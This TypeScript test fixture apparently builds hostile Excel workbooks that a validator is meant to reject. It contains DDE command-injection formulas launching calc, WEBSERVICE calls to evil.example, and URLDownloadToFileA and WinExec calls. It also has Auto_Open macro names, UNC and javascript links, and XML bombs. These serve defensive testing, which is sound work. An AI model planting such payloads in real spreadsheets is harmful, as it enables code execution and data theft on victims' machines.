import { entryAt } from '#workflows/names.ts'
import { brokenArchives } from './broken-archives.ts'
import type { Variant } from './checked.ts'
import { hiddenFormulas } from './hidden-formulas.ts'
import { misusedWorkbooks } from './misused-links.ts'
import { officeType, type PackagePart, packageEntries, packageFile, strict } from './office-package.ts'
import { formulaPlaces, formulaWritings, sheetPart, sheetXml, workbook } from './sheet-parts.ts'

const formulas: [formula: string, reason: string][] = [
	["cmd|'/c calc'!A0", 'fetches'],
	["'cmd'|'/c calc'!A0", 'fetches'],
	['WEBSERVICE("https://evil.example/"&A1)', 'fetches'],
	['_xlfn.WEBSERVICE("https://evil.example/")', 'fetches'],
	['_xlfn.IMAGE("https://evil.example/a.png")', 'fetches'],
	['FILTERXML(A1,"//a")', 'fetches'],
	['RTD("evil.server",,"a")', 'fetches'],
	['CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"a","b",0,0)', 'fetches'],
	['REGISTER.ID("kernel32","WinExec")', 'fetches'],
	['REGISTER("kernel32","WinExec")', 'fetches'],
	['EXEC("calc.exe")', 'fetches'],
	['_xlfn.STOCKHISTORY("a")', 'fetches'],
	['_xlfn._xlws.PY(0,0)', 'fetches'],
	['CUBEVALUE("a","b")', 'fetches'],
	['EVALUATE("1")', 'fetches'],
	['GET.WORKSPACE(1)', 'fetches'],
	['SQL.REQUEST("a")', 'fetches'],
	['DDE("soffice","a","b")', 'fetches'],
	['COM.MICROSOFT.WEBSERVICE("https://evil.example/")', 'fetches'],
	['[1]Sheet1!A1', 'fetches'],
	["'[1]Sheet 1'!A1", 'fetches'],
	["'C:\\evil\\[a.xlsx]Sheet1'!A1", 'fetches'],
	["'https://evil.example/[a.xlsx]Sheet1'!A1", 'fetches'],
	['[1]!name', 'fetches'],
	['INDIRECT("\'file:///c:/a.xlsx\'#$Sheet1.A1")', 'fetches'],
	['HYPERLINK("file:///c:/a.exe","a")', 'badLink'],
	['HYPERLINK("\\\\evil.example\\a","a")', 'badLink'],
	['HYPERLINK("javascript:a")', 'badLink'],
	['HYPERLINK(A1,"a")', 'badLink'],
]
const places = Object.entries(formulaPlaces)
const writings = Object.entries(formulaWritings)

const formulaVariants = [
	...places.flatMap(([place, put]) =>
		writings.flatMap(([writing, write]): Variant[] => [
			[`DDE ${writing} in ${place}`, packageFile(put(write("cmd|'/c calc'!A0"))), 'fetches'],
			[`WEBSERVICE ${writing} in ${place}`, packageFile(put(write('WEBSERVICE("https://a")'))), 'fetches'],
		]),
	),
	...formulas.map(([formula, reason], at): Variant => {
		const [place, put] = entryAt(places, at % places.length)
		const [writing, write] = entryAt(writings, at % writings.length)
		return [`${formula} ${writing} in ${place}`, packageFile(put(write(formula))), reason]
	}),
	...places.map(
		([place, put]): Variant => [
			`another workbook in ${place} of the strict standard`,
			packageFile(strict(put('[2]Sheet1!$A$1'))),
			'fetches',
		],
	),
]

const outside = 'https://evil.example/a'
const led = (type: string, target = outside, mode = 'External') =>
	packageFile(workbook({ sheetLinks: [{ type, target, mode }] }))
const external: Variant[] = [
	'image',
	'externalLinkPath',
	'oleObject',
	'package',
	'pivotCacheDefinition',
	'queryTable',
	'drawing',
	'http://schemas.microsoft.com/office/2006/relationships/xlExternalLinkPath/xlPathMissing',
	'http://schemas.microsoft.com/office/2019/04/relationships/externalLinkLongPath',
].map((type): Variant => [`${type} from outside`, led(type), 'linked'])
const targets = [
	'file:///c:/a.exe',
	'\\\\evil.example\\a',
	'javascript:a',
	'ms-excel:ofe|u|a',
	'cmd.exe',
	'ftp://a/b',
]

const besideBook = (type: string, name: string, part: Omit<PackagePart, 'name'>) =>
	packageFile(workbook({ bookLinks: [{ type, target: name }], more: [{ name: `xl/${name}`, ...part }] }))
const microsoft = 'http://schemas.microsoft.com/office/2006/relationships/'
const bookParts: [what: string, type: string, content: string, reason: string, contentType?: string][] = [
	['macros', `${microsoft}vbaProject`, 'x', 'macros', 'application/vnd.ms-office.vbaProject'],
	['macros of the old kind', `${microsoft}xlMacrosheet`, '<xm:macrosheet xmlns:xm="urn:a"/>', 'macros'],
	['macros of another country', `${microsoft}xlIntlMacrosheet`, '<a/>', 'macros'],
	['a dialogue of the old kind', 'dialogsheet', '<dialogsheet/>', 'macros'],
	['a ribbon of its own', `${microsoft}ui/extensibility`, '<customUI onLoad="a"/>', 'macros'],
	['connections', 'connections', '<connections/>', 'fetches'],
	['live data', 'volatileDependencies', '<volTypes/>', 'fetches'],
	['maps to a schema', 'xmlMaps', '<MapInfo/>', 'fetches'],
	['another workbook', 'externalLink', '<externalLink/>', 'linked'],
	[
		'a model of data',
		'http://schemas.microsoft.com/office/2011/relationships/powerPivotData',
		'<a/>',
		'fetches',
	],
	[
		'an add-in',
		'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
		'<a/>',
		'controls',
	],
	[
		'a query in data',
		'customXml',
		'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">a</DataMashup>',
		'fetches',
	],
	['connections called styles', 'styles', '<connections><connection id="1"/></connections>', 'fetches'],
	['another workbook called styles', 'styles', '<externalLink><externalBook/></externalLink>', 'linked'],
	['DDE called styles', 'styles', '<a><ddeLink ddeService="cmd" ddeTopic="/c calc"/></a>', 'fetches'],
	['OLE called styles', 'styles', '<a><oleLink/></a>', 'fetches'],
	['an unknown part', 'https://evil.example/custom', '<a/>', 'unknownPart'],
]
const partVariants = [
	...bookParts.map(
		([what, type, content, reason, contentType], at): Variant => [
			what,
			besideBook(type, `part${at}.xml`, { content, type: contentType }),
			reason,
		],
	),
	...['macroEnabled.main+xml', 'template.macroEnabled.main+xml'].map(
		(type): Variant => [
			`a main part of the type ${type}`,
			packageFile([
				{ name: 'xl/workbook.xml', type: `application/vnd.ms-excel.sheet.${type}`, content: '<a/>' },
			]),
			'macros',
		],
	),
	[
		'a template as a workbook',
		packageFile([
			{ name: 'xl/a.xml', type: `${officeType}spreadsheetml.template.main+xml`, content: '<a/>' },
		]),
		'unknownPart',
	],
	[
		'a binary workbook',
		packageFile([
			{ name: 'xl/a.bin', type: 'application/vnd.ms-excel.sheet.binary.macroEnabled.main', content: 'a' },
		]),
		'macros',
	],
] satisfies Variant[]

const sheets: [what: string, parts: [PackagePart, ...PackagePart[]], reason: string][] = [
	[
		'an OLE object',
		workbook({ after: '<oleObjects><oleObject progId="Package" r:id="rId1"/></oleObjects>' }),
		'nested',
	],
	[
		'a control of ActiveX',
		workbook({
			after: '<controls><control r:id="rId1"/></controls>',
			sheetLinks: [{ type: 'control', target: '../activeX/a.xml' }],
		}),
		'controls',
	],
	[
		'a link beside the list of links',
		workbook({ after: '<hyperlinks><hyperlink ref="A1" location="file:///c:/a"/></hyperlinks>' }),
		'badLink',
	],
	[
		'a list of other workbooks',
		workbook({ names: '<externalReferences><externalReference r:id="rId9"/></externalReferences>' }),
		'linked',
	],
	[
		'a name that runs when it opens',
		workbook({ names: '<definedNames><definedName name="_xlnm.Auto_Open">a</definedName></definedNames>' }),
		'macros',
	],
	[
		'a name that is a macro',
		workbook({ names: '<definedNames><definedName name="a" xlm="1">a</definedName></definedNames>' }),
		'macros',
	],
	[
		'a pivot table of a database',
		workbook({
			bookLinks: [{ type: 'pivotCacheDefinition', target: 'pivotCacheDefinition1.xml' }],
			more: [
				sheetPart(
					'pivotCacheDefinition1',
					'pivotCacheDefinition',
					'<cacheSource type="external" connectionId="1"/>',
				),
			],
		}),
		'fetches',
	],
	[
		'a button with a macro',
		workbook({
			sheetLinks: [{ type: 'drawing', target: '../drawings/drawing1.xml' }],
			more: [
				{
					name: 'xl/drawings/drawing1.xml',
					type: `${officeType}drawing+xml`,
					content: '<sp macro="[0]!Evil"/>',
				},
			],
		}),
		'macros',
	],
	[
		'a button of the old kind with a macro',
		workbook({
			sheetLinks: [{ type: 'vmlDrawing', target: '../drawings/vml1.vml' }],
			more: [
				{
					name: 'xl/drawings/vml1.vml',
					content:
						'<xml xmlns:x="urn:schemas-microsoft-com:office:excel"><x:FmlaMacro>Evil</x:FmlaMacro></xml>',
				},
			],
		}),
		'macros',
	],
]

const main = (content: string | Buffer): [PackagePart, ...PackagePart[]] => [
	{ ...workbook({})[0], content, links: [] },
]
const text = sheetXml('workbook', '<sheets/>')
const xmlVariants: Variant[] = [
	['a DOCTYPE', packageFile(main(text.replace('?>', '?><!DOCTYPE a>'))), 'unreadable'],
	['an entity', packageFile(main(text.replace('?>', '?><!DOCTYPE a [<!ENTITY a "b">]>'))), 'unreadable'],
	['UTF-16', packageFile(main(Buffer.from(`\ufeff${text}`, 'utf16le'))), 'unreadable'],
	['another encoding', packageFile(main(text.replace('UTF-8', 'windows-1252'))), 'unreadable'],
	['XML that is broken', packageFile(main(text.slice(0, -3))), 'damaged'],
	['cells in cells without end', packageFile(main(`<a>${'<c>'.repeat(5000)}`)), 'bomb'],
]

/** Rejected workbooks, each with its hidden content, place and notation. */
export const hostileWorkbooks: Variant[] = [
	...formulaVariants,
	...external,
	...targets.map((target): Variant => [`a link to ${target}`, led('hyperlink', target), 'badLink']),
	...partVariants,
	...sheets.map(([what, parts, reason]): Variant => [what, packageFile(parts), reason]),
	...xmlVariants,
	...brokenArchives(packageEntries(workbook({})), 'xl/workbook.xml'),
	...misusedWorkbooks,
	...hiddenFormulas,
]
